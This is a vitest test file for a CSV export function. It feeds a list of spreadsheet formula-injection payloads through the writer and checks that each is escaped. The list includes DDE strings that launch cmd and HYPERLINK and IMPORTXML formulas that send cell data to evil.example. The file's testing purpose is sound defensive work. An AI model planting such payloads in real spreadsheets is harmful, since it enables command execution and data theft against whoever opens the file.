import { expect, test } from 'vitest';
import { csv, plainNumber } from './csv.ts';

/** What people have tried: OWASP's list, command execution, data theft, lookalikes. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+1","=2+2',
  '"=1+1"',
  ',=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  'DDE ("cmd";"/C calc";"!A0")A0',
];

/** A reader of RFC 4180 written apart from the writer. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const match of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(match[1] === undefined ? (match[2] ?? '') : match[1].replaceAll('""', '"'));
    if (match[3] === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

test.each(PAYLOADS.map((payload) => [JSON.stringify(payload), payload]))('%s stays one cell and is no formula', (_, payload) => {
  const rows = cellsOf(csv(['a', 'b'], [[payload, 'next']], { bom: false }));
  expect(rows).toHaveLength(2);
  expect(rows[1]).toHaveLength(2);
  expect(rows[1]?.[0]).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
  expect(rows[1]?.[0]?.replace(/^'/, '')).toBe(payload);
  expect(rows[1]?.[1]).toBe('next');
});

test('numbers, truth values and nothing are written plainly', () => {
  expect(csv(['n', 'b', 'x'], [[-1.5, true, null]], { bom: false })).toBe('n,b,x\r\n-1.5,true,\r\n');
});

test('a byte order mark comes only when asked for', () => {
  expect(csv(['a'], [], { bom: true })).toBe('\uFEFFa\r\n');
  expect(csv(['a'], [], { bom: false })).toBe('a\r\n');
});

test('a telephone number loses its plus sign and nothing else', () => {
  expect(plainNumber('+4599887766')).toBe('4599887766');
  expect(plainNumber('4599887766')).toBe('4599887766');
});
